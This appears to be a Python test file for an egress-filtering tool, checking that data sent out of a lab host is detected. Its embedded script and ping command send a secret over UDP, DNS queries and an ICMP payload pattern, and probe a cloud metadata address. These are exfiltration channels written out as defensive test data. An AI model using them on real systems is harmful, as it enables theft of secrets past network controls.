# SPDX-License-Identifier: Apache-2.0
"""That the asserts of the others can fail: without netgate, the same packets leave the host, and each is counted as an escape."""

import sys

from lab import METADATA, v4
from lab.inside import dns_query

from .attempt import ALLOWED, is_expected
from .packets import SECRET

SCRIPT = f"""
import socket
for kind, to, data in (("udp", ("{v4('raw')}", 5000), {SECRET!r}), ("udp", ("{v4('dns')}", 53), bytes.fromhex("{dns_query('x.bad.test').hex()}")),
                       ("udp", ("{v4('dns')}", 53), {SECRET!r}), ("tcp", ("{v4('other')}", 443), b""), ("tcp", ("{METADATA}", 80), b""), ("tcp", ("{v4('web')}", 8080), b"")):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    sock.connect(to)
    if data:
        sock.send(data)
    if kind == "udp" and (to[1] == 5000 or data != {SECRET!r}):
        sock.recv(1000)
"""


def test_escapes_are_seen(lab):
    with lab.capture() as capture:
        assert lab.on_host([sys.executable, "-c", SCRIPT]).returncode == 0
        lab.on_host(["ping", "-c", "1", "-W", "1", "-p", SECRET.hex(), v4("raw")])
    escaped = {(packet.proto, packet.dst, packet.dport) for packet in capture.packets if not is_expected(packet, ALLOWED)}
    assert escaped == {("udp", v4("raw"), 5000), ("udp", v4("dns"), 53), ("tcp", v4("other"), 443), ("tcp", METADATA, 80),
                       ("tcp", v4("web"), 8080), ("icmp", v4("raw"), 0)}
    assert sum(not is_expected(packet, ALLOWED) for packet in capture.to(v4("dns"))) == 2
    assert capture.contains(SECRET)


def test_allowed_dials_are_not(lab):
    with lab.capture() as capture:
        lab.on_host(["curl", "-sS", "http://ok.test/hello"])
        lab.on_host(["curl", "-sS", "https://x.wild.test/hello"])
    assert capture.packets and all(is_expected(packet, ALLOWED) for packet in capture.packets)
